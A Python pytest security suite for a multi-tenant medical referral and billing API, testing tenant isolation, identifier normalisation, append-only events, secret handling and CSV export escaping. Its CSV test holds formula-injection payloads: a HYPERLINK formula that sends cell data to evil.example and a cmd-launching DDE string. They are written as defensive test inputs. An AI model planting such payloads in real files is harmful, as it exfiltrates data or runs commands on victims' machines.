"""Tenant and data boundaries: one test per attack, named after what it proves.

Each test reproduces the attack as it was reported and asserts it no longer works,
on the module-wide two-tenant world of tests/security/conftest.py (every request in
a savepoint that is rolled back).
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import uuid
from pathlib import Path

import pytest
from sqlalchemy import text
from sqlalchemy.exc import DBAPIError

from app.finance import billing_export as billing
from tests.conftest import SYSTEM_CONTEXT
from tests.security.conftest import SecurityWorld

ROOT = Path(__file__).resolve().parents[2]


async def _patient(world: SecurityWorld, tenant: str, identifier: dict, role: str = "referrer"):
    return await world.request(
        "POST",
        "/v1/patients",
        world.headers(tenant, role),
        json={
            "family_name": "Probe",
            "residence": {"country": "BE"},
            "identifiers": [identifier],
        },
    )


# -- 3. ownership of patient records ------------------------------------------------------


async def test_only_the_registering_organisation_changes_a_patient_record(security_world):
    world = security_world
    tenant = world.tenants["A"]
    patient = tenant.patient  # registered by A's referring facility, shared with its cases
    path = f"/v1/patients/{patient['id']}"
    for role in ("coordinator", "clinician"):
        headers = {**world.headers("A", role), "If-Match": f'"{patient["version"]}"'}
        # The receiving hospital reads the record through the shared case...
        assert (await world.request("GET", path, world.headers("A", role))).status_code == 200
        # ...and may not rewrite it.
        response = await world.request(
            "PATCH", path, headers, json={"family_name": "Rewritten", "identifiers": []}
        )
        assert response.status_code == 403, (role, response.text)
        assert response.json()["code"] == "not_patient_owner"
    # A payer organisation holding a clinician token: same answer, not a rewrite.
    payer_org = tenant.orgs["pay"]
    forged_side = {
        **world.auth(payer_org, "clinician", sub="payer-as-clinician"),
        "If-Match": f'"{patient["version"]}"',
    }
    response = await world.request("PATCH", path, forged_side, json={"family_name": "Rewritten"})
    assert response.status_code == 403, response.text
    # The owner still can.
    owner = {**world.headers("A", "referrer"), "If-Match": f'"{patient["version"]}"'}
    response = await world.request("PATCH", path, owner, json={"languages": ["nl"]})
    assert response.status_code == 200, response.text


# -- 14. identifier uniqueness per organisation, normalised ------------------------------


async def test_identifiers_are_unique_per_organisation_and_compared_normalised(
    security_world,
):
    world = security_world
    a, b = world.tenants["A"], world.tenants["B"]
    taken = a.patient["identifiers"][0]
    # Another organisation registering the same passport number learns nothing: no 409
    # (the oracle), no id of A's patient; it gets its own record.
    other = await _patient(world, "B", taken)
    assert other.status_code == 201, other.text
    assert a.patient["id"] not in other.text and other.json()["id"] != a.patient["id"]
    assert other.json()["organization_id"] == b.orgs["ref"]

    # Within the registering organisation, look-alikes of the same number are the same
    # number: zero-width characters, direction marks, full-width letters and digits, a BOM.
    value = taken["value"]
    fullwidth = "".join(chr(ord(ch) + 0xFEE0) if "!" <= ch <= "~" else ch for ch in value)
    look_alikes = [
        "\u200b" + value,
        value[:3] + "\u200d" + value[3:],
        "\u200f" + value + "\u202c",
        "\ufeff" + value,
        fullwidth,
        " " + value + "\u2060",
    ]
    for variant in look_alikes:
        response = await _patient(world, "A", {"system": taken["system"], "value": variant})
        assert response.status_code == 409, (ascii(variant), response.text)
        assert response.json()["code"] == "duplicate_identifier"
        assert response.json()["existing_id"] == a.patient["id"]

    # A new number is stored in its normal form, and found by any of its spellings.
    fresh = f"NRM{uuid.uuid4().hex[:8].upper()}"
    created = await world.request(
        "POST",
        "/v1/patients",
        world.headers("A", "referrer"),
        json={
            "family_name": "Normal",
            "residence": {"country": "BE"},
            "identifiers": [{"system": "passport", "value": "\u200e" + fresh + "\u200b"}],
        },
    )
    assert created.status_code == 201, created.text
    assert created.json()["identifiers"] == [{"system": "passport", "value": fresh}]

    # Nothing but invisible characters is not an identifier.
    empty = await _patient(world, "A", {"system": "passport", "value": "\u200b\u200f\u2060"})
    assert empty.status_code == 422
    assert empty.json()["code"] in ("invalid_identifier", "validation_failed")

    search = await world.request(
        "GET",
        "/v1/patients",
        world.headers("A", "referrer"),
        params={"identifier": f"passport|\u200b{value}\u200f"},
    )
    assert [item["id"] for item in search.json()["items"]] == [a.patient["id"]]


# -- 10. case_events append-only for the application role ---------------------------------


async def test_the_application_role_may_not_change_or_delete_case_events(connection):
    privileges = (
        await connection.execute(
            text(
                "SELECT has_table_privilege(current_user, 'case_events', 'INSERT'),"
                " has_table_privilege(current_user, 'case_events', 'SELECT'),"
                " has_table_privilege(current_user, 'case_events', 'UPDATE'),"
                " has_table_privilege(current_user, 'case_events', 'DELETE'),"
                " has_table_privilege(current_user, 'case_events', 'TRUNCATE')"
            )
        )
    ).one()
    assert tuple(privileges) == (True, True, False, False, False)
    for statement in (
        "UPDATE case_events SET reason = 'rewritten'",
        "DELETE FROM case_events",
        "TRUNCATE case_events",
    ):
        savepoint = await connection.begin_nested()
        with pytest.raises(DBAPIError, match="permission denied"):
            await connection.execute(text(statement))
        await savepoint.rollback()


@contextlib.asynccontextmanager
async def scratch(world: SecurityWorld):
    """Several requests whose effects are seen by each other, then rolled back."""
    savepoint = await world.connection.begin_nested()
    try:
        yield world.client
    finally:
        await savepoint.rollback()


# -- 1. the payer's view, everywhere -------------------------------------------------------

CLINICAL_DECLINE = "HIV+, CD4 80: treat opportunistic infection locally"
CLINICAL_HOLD = "Awaiting dialysis slot, creatinine 9"
CLINICAL_TASK = "Patient needs dialysis en route"


async def test_a_payer_reads_no_care_party_free_text_in_any_view(security_world):
    world = security_world
    tenant = world.tenants["A"]
    coordinator, payer = world.headers("A", "coordinator"), world.headers("A", "payer")
    async with scratch(world) as client:
        declined = tenant.cases["submitted"]["id"]
        response = await client.post(
            f"/v1/cases/{declined}/decline", json={"reason": CLINICAL_DECLINE}, headers=coordinator
        )
        assert response.status_code == 200, response.text
        held = tenant.cases["teleconsultation_scheduled"]["id"]
        response = await client.post(
            f"/v1/cases/{held}/hold", json={"reason": CLINICAL_HOLD}, headers=coordinator
        )
        assert response.status_code == 200, response.text
        funded = tenant.cases["funding_approved"]["id"]
        response = await client.post(
            f"/v1/cases/{funded}/logistics-tasks",
            json={"kind": "travel", "note": CLINICAL_TASK},
            headers=coordinator,
        )
        assert response.status_code == 201, response.text
        # The payer approves funding on another case with a note of its own.
        accepted = tenant.cases["accepted"]["id"]
        response = await client.post(
            f"/v1/cases/{accepted}/approve-funding",
            json={"note": "PAYER-OWN-NOTE"},
            headers=payer,
        )
        assert response.status_code == 200, response.text

        views = []
        for case_id in (declined, held, funded, accepted):
            for path in ("", "/timeline", "/fhir"):
                views.append(await client.get(f"/v1/cases/{case_id}{path}", headers=payer))
        views.append(await client.get("/v1/cases", headers=payer, params={"limit": 200}))
        views.append(await client.get("/v1/events", headers=payer, params={"limit": 200}))
        for view in views:
            assert view.status_code == 200, (view.url, view.text)
            for secret in (CLINICAL_DECLINE, CLINICAL_HOLD, CLINICAL_TASK, "Zone cover"):
                assert secret not in view.text, (str(view.url), secret)
        funded_case = (await client.get(f"/v1/cases/{funded}", headers=payer)).json()
        assert funded_case["logistics_tasks"] and funded_case["funding"]["note"] is None
        assert all(task["note"] is None for task in funded_case["logistics_tasks"])
        # The payer's own words stay readable to it.
        own = (await client.get(f"/v1/cases/{accepted}/timeline", headers=payer)).json()
        assert "PAYER-OWN-NOTE" in [item["reason"] for item in own["items"]]

        # The care parties still read all of it.
        timeline = (await client.get(f"/v1/cases/{declined}/timeline", headers=coordinator)).json()
        assert CLINICAL_DECLINE in [item["reason"] for item in timeline["items"]]
        case = (await client.get(f"/v1/cases/{funded}", headers=coordinator)).json()
        assert CLINICAL_TASK in [task["note"] for task in case["logistics_tasks"]]
        assert case["funding"]["note"] == "Zone cover"


# -- 4. idempotency after authorisation, and no secret in a stored answer -----------------


async def _stored_bodies(world: SecurityWorld) -> str:
    await world.connection.execute(SYSTEM_CONTEXT)
    try:
        rows = await world.connection.execute(text("SELECT body::text FROM idempotency_records"))
        return "\n".join(row[0] or "" for row in rows)
    finally:
        await world.connection.execute(text("SELECT set_config('corridor.system', 'off', true)"))


async def test_idempotency_replays_only_to_its_caller_and_never_a_secret(security_world):
    world = security_world
    key = {"Idempotency-Key": f"k-{uuid.uuid4()}"}
    body = {"url": "http://127.0.0.1:9/replayed", "event_types": ["case.accepted"]}
    async with scratch(world) as client:
        first = await client.post(
            "/v1/webhooks", json=body, headers={**world.headers("A", "coordinator"), **key}
        )
        assert first.status_code == 201 and first.json()["secret"].startswith("whsec_")
        # A clinician of the same organisation replaying the coordinator's key: its own
        # request runs, role check first.
        clinician = await client.post(
            "/v1/webhooks", json=body, headers={**world.headers("A", "clinician"), **key}
        )
        assert clinician.status_code == 403, clinician.text
        assert "whsec_" not in clinician.text and first.json()["id"] not in clinician.text
        # The coordinator's own retry: the secret was shown once and is not kept.
        again = await client.post(
            "/v1/webhooks", json=body, headers={**world.headers("A", "coordinator"), **key}
        )
        assert again.status_code == 409, again.text
        assert again.json()["code"] == "secret_shown_once"
        assert again.json()["object_id"] == first.json()["id"]
        assert "whsec_" not in again.text

        created = await client.post(
            "/v1/api-clients",
            json={
                "name": "sync",
                "organization_id": world.tenants["A"].orgs["recv"],
                "roles": ["payer"],
            },
            headers={**world.headers("A", "org_admin"), **key},
        )
        assert created.status_code == 201 and created.json()["client_secret"].startswith("cs_")
        replay = await client.post(
            "/v1/api-clients",
            json={
                "name": "sync",
                "organization_id": world.tenants["A"].orgs["recv"],
                "roles": ["payer"],
            },
            headers={**world.headers("A", "org_admin"), **key},
        )
        assert replay.status_code == 409 and replay.json()["code"] == "secret_shown_once"
        assert created.json()["client_secret"] not in replay.text

        stored = await _stored_bodies(world)
        assert first.json()["id"] in stored  # the answers are stored...
        assert (
            "whsec_" not in stored and created.json()["client_secret"] not in stored
        )  # ...not the secrets


# -- 5. CSV formula injection in the billing export ----------------------------------------

FORMULAS = {
    "number": '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "reference": "@SUM(1+1)*cmd|' /C calc'!A0",
}


async def test_the_billing_csv_neutralises_formulas_from_other_organisations(security_world):
    world = security_world
    tenant = world.tenants["A"]
    coordinator, payer = world.headers("A", "coordinator"), world.headers("A", "payer")
    case = tenant.cases["discharged"]["id"]
    async with scratch(world) as client:
        claim = await client.post(
            f"/v1/cases/{case}/claims",
            json={
                "number": FORMULAS["number"],
                "kind": "interim",
                "total": {"amount": "10.00", "currency": "EUR"},
                "lines": [],
            },
            headers=coordinator,
        )
        assert claim.status_code == 201, claim.text
        claim_id = claim.json()["id"]
        accepted = await client.post(
            f"/v1/claims/{claim_id}/accept", json={}, headers={**payer, "If-Match": '"1"'}
        )
        assert accepted.status_code == 200, accepted.text
        paid = await client.post(
            f"/v1/claims/{claim_id}/pay",
            json={
                "amount": {"amount": "10.00", "currency": "EUR"},
                "paid_at": "2026-01-02",
                "reference": FORMULAS["reference"],
            },
            headers={**payer, "If-Match": accepted.headers.get("ETag", '"2"')},
        )
        assert paid.status_code == 200, paid.text
        export = await client.get("/v1/billing/export", headers=payer)
        assert export.status_code == 200
        rows = {row["claim_id"]: row for row in csv.DictReader(io.StringIO(export.text))}
        row = rows[claim_id]
        assert row["claim_number"] == "'" + FORMULAS["number"]
        assert row["payment_reference"] == "'" + FORMULAS["reference"]
        for line in export.text.splitlines()[1:]:
            for cell in next(csv.reader([line])):
                assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
        # JSON Lines is for programs: the values as they are.
        jsonl = await client.get("/v1/billing/export", headers=payer, params={"format": "jsonl"})
        records = [json.loads(line) for line in jsonl.text.splitlines()]
        assert FORMULAS["number"] in [record["claim_number"] for record in records]


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-1+1", "@A1", "\t=1", "\r=1", "  =1", "\uff1d1+1", "\uff20A1"],
)
def test_every_formula_trigger_is_neutralised_for_member_numbers_too(value):
    row = dict.fromkeys(billing.COLUMNS, "x") | {"member_number": value, "claim_number": value}
    text = billing._csv_text([row], header=True)
    parsed = next(csv.DictReader(io.StringIO(text)))
    assert parsed["member_number"] == "'" + value
    assert parsed["claim_number"] == "'" + value


# -- 6. references: kind and relationship --------------------------------------------------


async def test_a_case_names_organisations_of_the_right_kind_and_a_related_agreement(
    security_world,
):
    world = security_world
    a, b = world.tenants["A"], world.tenants["B"]
    referrer, coordinator = world.headers("A", "referrer"), world.headers("A", "coordinator")
    base = {"patient_id": a.patient["id"], "specialty": "cardiology"}
    attempts = [
        # A payer organisation as the receiving hospital (its clinician would read the case).
        ({**base, "receiving_organization_id": a.orgs["pay"]}, referrer, "wrong_organization_kind"),
        # A hospital as the payer.
        (
            {
                **base,
                "receiving_organization_id": a.orgs["recv"],
                "coverage": {"route": "zoast", "payer_organization_id": a.orgs["recv"]},
            },
            referrer,
            "wrong_organization_kind",
        ),
        # An agreement between other parties (its deposit ratio would drive this case).
        (
            {
                **base,
                "receiving_organization_id": a.orgs["recv"],
                "coverage": {
                    "route": "zoast",
                    "payer_organization_id": a.orgs["pay"],
                    "agreement_id": b.agreement,
                },
            },
            referrer,
            "agreement_not_applicable",
        ),
        # A coordinator attributing its case to another organisation as the referrer.
        (
            {
                **base,
                "receiving_organization_id": a.orgs["recv"],
                "referring_organization_id": a.orgs["ref"],
            },
            coordinator,
            "referring_organization_not_yours",
        ),
    ]
    for body, headers, code in attempts:
        response = await world.request("POST", "/v1/cases", headers, json=body)
        assert response.status_code == 422, (code, response.text)
        assert response.json()["code"] == code
    # Editing a draft into the same shapes is refused the same way.
    draft = a.cases["draft"]
    patch = {**referrer, "If-Match": f'"{draft["version"]}"'}
    response = await world.request(
        "PATCH",
        f"/v1/cases/{draft['id']}",
        patch,
        json={"receiving_organization_id": a.orgs["pay"]},
    )
    assert response.status_code == 422 and response.json()["code"] == "wrong_organization_kind"
    response = await world.request(
        "PATCH",
        f"/v1/cases/{draft['id']}",
        patch,
        json={
            "coverage": {
                "route": "zoast",
                "payer_organization_id": a.orgs["pay"],
                "agreement_id": b.agreement,
            }
        },
    )
    assert response.status_code == 422 and response.json()["code"] == "agreement_not_applicable"
    # The right shapes still pass.
    fine = {
        **base,
        "receiving_organization_id": a.orgs["recv"],
        "coverage": {
            "route": "zoast",
            "payer_organization_id": a.orgs["pay"],
            "agreement_id": a.agreement,
        },
    }
    assert (await world.request("POST", "/v1/cases", referrer, json=fine)).status_code == 201


# -- org_admin ------------------------------------------------------------------------------


async def test_org_admin_manages_its_own_clients_webhooks_and_audit_and_reads_no_case_data(
    security_world,
):
    world = security_world
    a, b = world.tenants["A"], world.tenants["B"]
    org_admin = world.headers("A", "org_admin")
    async with scratch(world) as client:
        own = await client.post(
            "/v1/api-clients",
            json={"name": "own", "organization_id": a.orgs["recv"], "roles": ["coordinator"]},
            headers=org_admin,
        )
        assert own.status_code == 201, own.text
        foreign = await client.post(
            "/v1/api-clients",
            json={"name": "x", "organization_id": b.orgs["recv"], "roles": ["coordinator"]},
            headers=org_admin,
        )
        assert foreign.status_code == 422 and foreign.json()["code"] == "foreign_organization"
        as_admin = await client.post(
            "/v1/api-clients",
            json={"name": "x", "organization_id": a.orgs["recv"], "roles": ["org_admin"]},
            headers=org_admin,
        )
        assert as_admin.status_code == 422  # no client acts as an administrator
        listed = (await client.get("/v1/api-clients", headers=org_admin)).json()["items"]
        assert {item["organization_id"] for item in listed} == {a.orgs["recv"]}
        assert b.api_client["id"] not in {item["id"] for item in listed}
        hooks = await client.get("/v1/webhooks", headers=org_admin)
        assert [item["id"] for item in hooks.json()["items"]] == [a.webhook["id"]]
        trail = await client.get("/v1/audit-events", headers=org_admin)
        assert trail.status_code == 200
        assert {row["actor"]["organization_id"] for row in trail.json()["items"]} <= {
            a.orgs["recv"]
        }
        for path in (
            "/v1/cases",
            f"/v1/cases/{a.cases['discharged']['id']}",
            f"/v1/patients/{a.patient['id']}",
            "/v1/events",
            "/v1/billing/export",
            "/v1/claims",
        ):
            response = await client.get(path, headers=org_admin)
            assert response.status_code == 403, (path, response.status_code)
        organisation = await client.post(
            "/v1/organizations",
            json={"name": "Mine", "kind": "payer", "country": "BE"},
            headers=org_admin,
        )
        assert organisation.status_code == 403  # the platform admin's alone
